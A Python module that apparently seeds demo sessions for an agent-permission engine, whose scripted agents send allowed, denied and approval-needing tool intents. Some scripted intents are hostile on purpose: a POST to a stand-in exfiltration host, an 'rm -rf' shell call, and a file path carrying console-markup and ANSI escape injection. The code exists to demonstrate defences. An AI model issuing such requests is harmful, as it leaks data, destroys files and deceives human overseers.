"""`talon demo`: sample sessions from sample_policies/ and a demo agent that connects through
the real agent pipe and produces a steady mix of allowed, denied and approval-needing intents.

The demo agent is an ordinary pipe client (`AsyncAgentClient`) holding ordinary agent keys; it
gets no shortcut into the engine. Its keys are kept in `<data>/demo-agents.json` (0600) so a
restarted demo reconnects; a missing key is re-issued (which revokes the old one).
"""

from __future__ import annotations

import asyncio
import contextlib
import json
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from functools import partial
from pathlib import Path
from typing import Any

from talon_tui.client import AsyncAgentClient, ClientError
from talon_tui.engine.api import EngineAPI
from talon_tui.engine.core.paths import DataDir, write_private
from talon_tui.engine.errors import TalonError

from .app.screens.session_forms import SAMPLE_POLICIES, read_policy_file

KEYS_FILE = "demo-agents.json"
MAX_WAITING = 2  # approval-needing intents one demo agent keeps open at once
FIRST_PACE = 0.05  # seconds between intents of the first round: traffic on screen at once
RECONNECT_S = 0.5  # wait before reconnecting after the pipe refused or dropped an agent


@dataclass(frozen=True)
class DemoSession:
    label: str
    policy_file: str
    files: dict[str, str]
    script: tuple[tuple[str, dict[str, Any]], ...]
    content: str
    extra_overrides: tuple[dict[str, Any], ...] = ()


DRAFTS_NEED_APPROVAL = {
    "tool": "file.write",
    "allow": True,
    "approval": "always",
    "note": "demo: the agent may write drafts, each one after an operator says yes",
    "constraints": {"roots": ["drafts"], "max_bytes": 65536, "ttl_seconds": 60},
}

SESSIONS: tuple[DemoSession, ...] = (
    DemoSession(
        label="research-agent",
        policy_file="file-read.json",
        extra_overrides=(DRAFTS_NEED_APPROVAL,),
        files={
            "notes/plan.md": "# Plan\n- read the notes\n- draft a summary\n",
            "notes/ideas.md": "Ideas: cache the index, tail first.\n",
            "drafts/.keep": "",
        },
        content="summarize the project notes",
        script=(
            ("file.read", {"path": "notes/plan.md"}),
            ("file.read", {"path": "notes/ideas.md"}),
            ("file.write", {"path": "drafts/summary.md", "content": "Summary: ship it.\n"}),
            ("http.fetch", {"url": "https://paste.evil.example/upload", "method": "POST"}),
            ("file.read", {"path": "notes/[bold green]ALLOW[/]\x1b[2J.md"}),
        ),
    ),
    DemoSession(
        label="report-writer",
        policy_file="deny-then-fix-before.json",
        files={"notes/q3.md": "Q3 notes\n", "reports/q3.md": "Q3 report draft\n"},
        content="write the quarterly report",
        script=(
            ("file.read", {"path": "notes/q3.md"}),
            ("file.read", {"path": "reports/q3.md"}),
        ),
    ),
    DemoSession(
        label="locked-down",
        policy_file="strict-readonly.json",
        files={"docs/readme.md": "Read me.\n"},
        content="tidy the docs",
        script=(
            ("file.read", {"path": "docs/readme.md"}),
            ("file.write", {"path": "docs/readme.md", "content": "rewritten"}),
            ("shell.exec", {"argv": ["/bin/rm", "-rf", "docs"]}),
        ),
    ),
)


def _policy_for(spec: DemoSession) -> dict[str, Any]:
    path = SAMPLE_POLICIES / spec.policy_file
    doc = read_policy_file(path) if path.is_file() else {"version": 1, "overrides": []}
    doc["overrides"] = [*doc["overrides"], *spec.extra_overrides]
    return doc


def _write_files(workspace: Path, files: dict[str, str]) -> None:
    for rel, content in files.items():
        path = workspace / rel
        path.parent.mkdir(parents=True, exist_ok=True)
        if not path.exists():
            path.write_text(content, encoding="utf-8")


async def prepare_demo(api: EngineAPI, data_dir: Path) -> dict[str, tuple[str, DemoSession]]:
    """Create the demo sessions once; return {session_id: (agent_key, spec)}."""
    data = DataDir(data_dir)
    keys_path = data.root / KEYS_FILE
    try:
        keys: dict[str, str] = json.loads(keys_path.read_text(encoding="utf-8"))
    except (OSError, json.JSONDecodeError):
        keys = {}
    existing = {s.label: s for s in await api.list_sessions() if s.status == "open"}
    out: dict[str, tuple[str, DemoSession]] = {}
    for spec in SESSIONS:
        session = existing.get(spec.label)
        if session is None:
            workspace = data.root / "demo-workspaces" / spec.label
            workspace.mkdir(parents=True, exist_ok=True)
            _write_files(workspace, spec.files)
            created, key = await api.create_session(spec.label, str(workspace), _policy_for(spec))
            session_id = created.id
        else:
            session_id = session.id
            _write_files(Path(session.workspace), spec.files)
            key = keys.get(session_id) or await api.issue_agent_key(session_id)
        keys[session_id] = key
        out[session_id] = (key, spec)
    write_private(keys_path, json.dumps(keys, indent=2).encode("utf-8"))
    return out


class DemoAgent:
    """One scripted agent on the real pipe: a run per round, approvals in the background."""

    def __init__(self, socket_path: Path, key: str, spec: DemoSession, pace: float = 1.5) -> None:
        self.socket_path = socket_path
        self.key = key
        self.spec = spec
        self.pace = pace
        self.waiting: set[asyncio.Task] = set()
        self.submitted = 0

    async def run_forever(self) -> None:
        first = True
        while True:
            try:
                client = await AsyncAgentClient.connect(self.key, socket_path=self.socket_path)
            except (ClientError, OSError):
                await asyncio.sleep(RECONNECT_S)
                continue
            try:
                while True:
                    await self.round(client, pace=FIRST_PACE if first else self.pace)
                    first = False
            except (ClientError, OSError):
                await asyncio.sleep(RECONNECT_S)
            finally:
                with contextlib.suppress(ClientError, OSError):
                    await client.close()

    async def round(self, client: AsyncAgentClient, pace: float) -> None:
        run_id = await client.begin_run(self.spec.content)
        for tool, params in self.spec.script:
            if tool == "file.write" and self.spec.extra_overrides:
                if len(self.waiting) < MAX_WAITING:  # waits for an operator: do not block
                    task = asyncio.create_task(self._quiet(client.intent(tool, params)))
                    self.waiting.add(task)
                    task.add_done_callback(self.waiting.discard)
                continue
            await self._quiet(client.intent(tool, params, run_id=run_id))
            self.submitted += 1
            await asyncio.sleep(pace)
        await client.end_run(run_id, "ok")
        await asyncio.sleep(pace)

    @staticmethod
    async def _quiet(call: Awaitable[Any]) -> None:
        """Denials and timeouts are the point of the demo, not errors."""
        with contextlib.suppress(ClientError):
            await call


async def run_demo(api: EngineAPI, data_dir: Path, pace: float = 1.5) -> None:
    """Prepare the demo data dir, then run every demo agent until cancelled.

    Runs as a console service (a worker), so the dashboard is on screen while the sessions are
    created; each agent connects as soon as its session exists.
    """
    try:
        agents = await prepare_demo(api, data_dir)
    except TalonError as exc:
        raise TalonError(f"cannot prepare the demo data dir {data_dir}: {exc}") from exc
    socket_path = DataDir(data_dir).socket_path
    async with asyncio.TaskGroup() as group:
        for key, spec in agents.values():
            group.create_task(DemoAgent(socket_path, key, spec, pace).run_forever())


async def demo_services(
    api: EngineAPI, data_dir: Path, pace: float = 1.5
) -> list[Callable[[], Awaitable[None]]]:
    """The demo as console services: one that prepares the data dir and runs the agents.

    Nothing is prepared here, so the console opens at once; a failure is shown in the console.
    """
    return [partial(run_demo, api, data_dir, pace)]
